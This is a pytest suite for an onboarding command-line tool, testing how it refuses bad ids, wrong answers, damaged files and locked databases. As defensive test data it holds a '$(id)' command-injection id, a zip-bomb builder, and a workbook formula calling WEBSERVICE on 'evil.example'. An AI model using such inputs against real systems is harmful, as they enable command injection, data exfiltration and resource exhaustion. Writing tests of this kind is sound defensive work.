"""Customers and their answers on the command line, above all what happens to bad input."""

from __future__ import annotations

import json
import os
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

Onboard = Callable[..., Any]
Write = Callable[..., Path]


@pytest.fixture
def bright(onboard: Onboard, answers_file: Write) -> Onboard:
    """`onboard`, with the customer bright-smile and its right answers in the workspace."""
    assert onboard("new", "bright-smile", "--profile", "corner", "--answers", str(answers_file())).code == 0
    return onboard


def kept(onboard: Onboard) -> str:
    """What the form of the customer would show, as one text."""
    assert onboard("sheet", "bright-smile", "-o", "kept.xlsx", "--force").code == 0
    book = load_workbook("kept.xlsx")
    return json.dumps([[str(c.value) for c in row] for sheet in book for row in sheet.iter_rows()])


def is_calm(said: Any, code: int) -> bool:
    """An error of at most two lines with its code, and nothing of the program's inside."""
    lines = said.err.splitlines()
    is_short = 1 <= len(lines) <= 2 and ": " in lines[0] and lines[0].split(":")[0].isupper()
    return said.code == code and is_short and "Traceback" not in said.err and "INTERNAL" not in said.err


def test_new(onboard: Onboard) -> None:
    """A new customer stands in the status, under the name that was given, waiting for its first task."""
    said = onboard("new", "bright-smile", "--profile", "corner", "--name", "Bright Smile", "--go-live", "2026-03-30")
    assert (said.code, said.err) == (0, "")
    assert "Bright Smile (bright-smile) is made" in said.out
    assert "go-live 30 Mar 2026" in onboard("status", "bright-smile").out
    assert "The sheet is complete (waiting), and 2 more" in onboard("status").out


def test_a_training_customer_is_marked_for_good(onboard: Onboard) -> None:
    """Made with --training, it is marked in every status, also for another program."""
    assert "for training" in onboard("new", "school", "--profile", "corner", "--training").out
    onboard("new", "bright-smile", "--profile", "corner")
    assert "training customer" in onboard("status", "school").out
    assert "training" not in onboard("status", "bright-smile").out
    assert "school (training)" in onboard("status").out
    assert "bright-smile (training)" not in onboard("status").out
    both = {line["customer"]: line["is_training"] for line in json.loads(onboard("status", "--json").out)}
    assert both == {"bright-smile": False, "school": True}
    assert json.loads(onboard("status", "school", "--json").out)["is_training"] is True


def test_new_takes_name_from_answers(bright: Onboard) -> None:
    """Without --name the company's name in the answers is the customer's."""
    assert "Bright Smile Dental Group (bright-smile)" in bright("status", "bright-smile").out


@pytest.mark.parametrize("name", ["../x", "a/b", "A", "", ".", "-x", "a b", "x" * 64, "con", "$(id)", "a\nb", "\u00e9"])
def test_dangerous_customer_ids(name: str, onboard: Onboard, home: Path) -> None:
    """An id that could name another folder, a command or nothing is refused everywhere, before anything is made."""
    for words in (("new", "--profile", "corner"), ("status",), ("tasks",), ("open", "--as-of", "2026-03-02")):
        command, *rest = words
        given = [command, *rest, "--", name, *(["gather"] if command == "open" else [])]
        said = onboard(*given)
        if command == "status" and not name:
            continue  # no name: the status of all
        assert is_calm(said, 2), said
        assert said.err.startswith("CUSTOMER-ID: ")
    assert not any(home.rglob("*gather*"))
    assert {path.name for path in home.parent.iterdir()} <= {"workspace", "here"}


@pytest.mark.parametrize(
    ("args", "code", "words"),
    [
        (("new", "x", "--profile", "nobody"), "PROFILE-UNKNOWN", "corner"),
        (("new", "x", "--profile", "../corner"), "PROFILE-UNKNOWN", "corner"),
        (("new", "x", "--profile", "corner", "--go-live", "30.3.26"), "DATE", "2026-11-30"),
        (("new", "x", "--profile", "corner", "--as-of", "soon"), "AS-OF", "2026-11-30"),
        (("new", "x", "--profile", "corner", "--answers", "missing.json"), "FILE", "missing.json"),
        (("new", "sample", "--profile", "corner"), "CUSTOMER-TRAINING", "sample"),
        (("status", "nobody"), "CUSTOMER-UNKNOWN", "onboard status"),
        (("sheet", "nobody", "-o", "x.xlsx"), "CUSTOMER-UNKNOWN", "onboard status"),
        (("sheet", "nobody", "-o", "x.doc"), "SHEET-NAME", ".xlsx"),
        (("profile", "show", "chinok"), "PROFILE-UNKNOWN", "chinook"),
    ],
)
def test_wrong_words(args: tuple[str, ...], code: str, words: str, onboard: Onboard) -> None:
    """Unknown things, impossible dates and missing files are named with what to do, and no customer is left behind."""
    said = onboard(*args)
    assert is_calm(said, 2), said
    assert said.err.startswith(code)
    assert words in said.err
    assert "There is no customer yet" in onboard("status").out


def test_a_second_customer_of_the_same_id(bright: Onboard, answers_file: Write) -> None:
    """An id is given once; the first customer's answers stay."""
    said = bright("new", "bright-smile", "--profile", "corner", "--answers", str(answers_file("b.json", company={})))
    assert is_calm(said, 2)
    assert "CUSTOMER-EXISTS" in said.err
    assert "brightsmile.example" in kept(bright)


def test_sheet_and_back(bright: Onboard) -> None:
    """The workbook carries what is known; read back unchanged it makes no new version."""
    assert bright("sheet", "bright-smile", "-o", "sheet.xlsx").code == 0
    said = bright("answers", "bright-smile", "sheet.xlsx", "--by", "Ana Diaz")
    assert (said.code, said.err) == (0, "")
    assert "complete and right" in said.out
    assert "version 1" in said.out


def test_sheet_overwrites_nothing(bright: Onboard) -> None:
    """A workbook that is there may hold a customer's work, so it is only written over when that is asked for."""
    Path("sheet.xlsx").write_text("filled in")
    said = bright("sheet", "bright-smile", "-o", "sheet.xlsx")
    assert is_calm(said, 2)
    assert Path("sheet.xlsx").read_text() == "filled in"
    assert bright("sheet", "bright-smile", "-o", "sheet.xlsx", "--force").code == 0


USER = {"email": "ana@brightsmile.example"}


@pytest.mark.parametrize(
    ("changes", "place", "words"),
    [
        ({"company": {"name": "Bright Smile"}}, "company.domain", "Mail domain"),
        ({"company": {"name": ["a"], "domain": "x.example"}}, "company.name", "Company name"),
        ({"company": [1]}, "company", "asked once"),
        ({"users": {}}, "users", "list"),
        ({"users": [{**USER, "colour": "red"}]}, "users.colour row 1", "colour"),
        ({"usres": [USER]}, "usres", "spelling"),
        ({"usres": "ana"}, "usres", "spelling"),
        ({"users": [USER, USER]}, "users.email row 2", "more than once"),
        ({"users": [{**USER, "extension": "100"}, {"email": "b@x.example", "extension": "100"}]}, "row 2", "more than"),
        ({"users": [{**USER, "extension": "12"}]}, "users.extension row 1", "digits"),
        ({"users": [{**USER, "number": "617"}]}, "users.number row 1", "617"),
        ({"users": [{"email": "ana"}]}, "users.email row 1", "e-mail address"),
        ({"users": [{**USER, "services": ["fax"]}]}, "users.services row 1", "fax"),
    ],
)
def test_wrong_answers(changes: dict[str, Any], place: str, words: str, onboard: Onboard, answers_file: Write) -> None:
    """Each wrong answer is named with its place in plain words; the answers are kept, and the exit code is 2."""
    onboard("new", "bright-smile", "--profile", "corner")
    said = onboard("answers", "bright-smile", str(answers_file(**changes)))
    assert is_calm(said, 2), said
    assert any(place in line and words in line for line in said.out.splitlines()), said.out
    assert "kept as version 1" in said.err
    checked = onboard("check", "bright-smile")
    if "usres" not in changes:
        assert checked.code == 2
        assert words in checked.out
    assert "brightsmile" in kept(onboard).lower() or "x.example" in kept(onboard)


def test_check_only_keeps_nothing(bright: Onboard, answers_file: Write) -> None:
    """With --check-only the problems are named and nothing is kept."""
    said = bright("answers", "bright-smile", str(answers_file("b.json", company={})), "--check-only")
    assert said.code == 2
    assert "Nothing was kept" in said.err
    assert bright("check", "bright-smile").code == 0
    said = bright("answers", "bright-smile", str(answers_file("c.json")), "--check-only")
    assert (said.code, said.err) == (0, "")
    assert "Nothing was kept" in said.out


def test_warnings_hold_up_nothing(onboard: Onboard, answers_file: Write) -> None:
    """A warning is shown with the source of its rule, and the exit code is 0."""
    onboard("new", "bright-smile", "--profile", "corner")
    users = [{**USER, "number": "+16175550101"}]
    said = onboard("answers", "bright-smile", str(answers_file(users=users)))
    assert (said.code, said.err) == (0, "")
    assert "warning" in said.out
    assert "numbering plan" in said.out
    found = json.loads(onboard("check", "bright-smile", "--json").out)
    assert [(p["severity"], p["question"], p["row"]) for p in found] == [("warning", "users.number", 0)]


def test_a_number_of_another_customer(bright: Onboard, answers_file: Write) -> None:
    """A number belongs to one customer; we read whose it is, the second only where, and loses no answer."""
    users = [{**USER, "number": "+16175550101"}]
    assert bright("answers", "bright-smile", str(answers_file(users=users))).code == 0
    assert bright("new", "other", "--profile", "corner").code == 0
    said = bright("answers", "other", str(answers_file(users=users)))
    assert is_calm(said, 2)
    assert "+16175550101 is bright-smile's" in said.err
    checked = bright("check", "other")
    assert checked.code == 2
    assert "in use at another customer" in checked.out
    assert "bright-smile" not in checked.out + checked.err


def test_formula_in_a_workbook(bright: Onboard) -> None:
    """A formula is no answer: its cell is named, and nothing is computed."""
    bright("sheet", "bright-smile", "-o", "sheet.xlsx")
    book = load_workbook("sheet.xlsx")
    book["Answers"]["B3"] = '=WEBSERVICE("http://evil.example")'
    book.save("sheet.xlsx")
    said = bright("answers", "bright-smile", "sheet.xlsx")
    assert said.code == 2
    assert sum("Answers!B3" in line for line in said.out.splitlines()) == 1


def bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 300_000_000)


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("cut.xlsx", lambda path: path.write_bytes(b"PK\x03\x04" + b"\0" * 40)),
        ("bomb.xlsx", bomb),
        ("empty.xlsx", lambda path: path.write_bytes(b"")),
        ("broken.toml", lambda path: path.write_text("a = = 1")),
        ("broken.json", lambda path: path.write_text('{"a": ')),
        ("deep.json", lambda path: path.write_text("[" * 100_000)),
        ("list.json", lambda path: path.write_text("[1]")),
        ("latin.toml", lambda path: path.write_bytes(b'a = "\xff"')),
        ("notes.docx", lambda path: path.write_text("hello")),
        ("gone.xlsx", lambda path: None),
        ("folder", lambda path: path.mkdir()),
    ],
)
def test_files_that_cannot_be_read(name: str, make: Callable[[Path], object], bright: Onboard) -> None:
    """A damaged, hostile or foreign file is named with what to do; the answers kept before are untouched."""
    make(Path(name))
    said = bright("answers", "bright-smile", name)
    assert is_calm(said, 2), said
    assert bright("check", "bright-smile").code == 0
    assert "brightsmile.example" in kept(bright)


@pytest.mark.slow
def test_a_locked_database(bright: Onboard, home: Path, answers_file: Write) -> None:
    """While another program holds the database a command says so and ends with 1; nothing is lost."""
    with sqlite3.connect(home / "onboarding.db", isolation_level=None) as other:
        other.execute("BEGIN EXCLUSIVE")
        said = bright("skip", "bright-smile", "gather.read-sheet", "--by", "Ana", "--reason", "known")
        other.execute("ROLLBACK")
    other.close()
    assert is_calm(said, 1), said
    assert said.err.startswith("STORE-LOCKED")
    assert "gather.read-sheet" in bright("tasks", "bright-smile").out


def test_a_database_of_a_newer_release(bright: Onboard, home: Path) -> None:
    """A database that a newer release has changed is left alone, and the message says to update."""
    with sqlite3.connect(home / "onboarding.db") as other:
        other.execute("UPDATE alembic_version SET version_num = '9999'")
    other.close()
    before = (home / "onboarding.db").read_bytes()
    said = bright("status")
    assert is_calm(said, 1), said
    assert said.err.startswith("STORE-NEWER")
    assert (home / "onboarding.db").read_bytes() == before


def test_a_file_that_is_no_database(onboard: Onboard, home: Path) -> None:
    """A foreign file in the database's place is named and left as it is."""
    home.mkdir()
    (home / "onboarding.db").write_text("my diary\n" * 200)
    said = onboard("status")
    assert is_calm(said, 1), said
    assert (home / "onboarding.db").read_text().startswith("my diary")


def test_a_workspace_that_is_a_file(onboard: Onboard, home: Path) -> None:
    """A workspace that cannot be one is named."""
    home.write_text("not a folder")
    said = onboard("status")
    assert is_calm(said, 1), said
    assert "workspace" in said.err


@pytest.mark.parametrize(
    "words",
    [
        ("answers", "bright-smile", "{}.toml"), ("answers", "bright-smile", "{}.xlsx"),
        ("answers", "bright-smile", "{}"),
        ("check", "bright-smile", "{}.json"), ("new", "other", "--profile", "corner", "--answers", "{}.toml"),
        ("new", "other", "--profile", "{}.toml"), ("adopt", "{}.csv"), ("adopt", "{}.xlsx"), ("adopt", "{}"),
        ("done", "bright-smile", "gather.read-sheet", "--by", "Ana", "--evidence", "{}.pdf"),
        ("done", "bright-smile", "gather.read-sheet", "--from", "{}.csv"), ("gate", "--file", "{}.toml"),
        ("profile", "lint", "{}.toml"), ("profile", "move", "bright-smile", "--to", "{}.toml"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_a_pipe_is_no_file(bright: Onboard, words: tuple[str, ...]) -> None:
    """Wherever a file is named, one that nobody ever writes to is refused at once, and so is a device without end."""
    for ending in ("", ".toml", ".json", ".csv", ".xlsx", ".pdf"):
        os.mkfifo(f"pipe{ending}")
        Path(f"zero{ending}").symlink_to("/dev/zero")
    before = bright("audit", "verify").out
    for name in ("pipe", "zero"):
        said = bright(*(word.format(name) for word in words))
        assert said.code in (1, 2), said
        assert "INTERNAL" not in said.err
    assert bright("audit", "verify").out == before
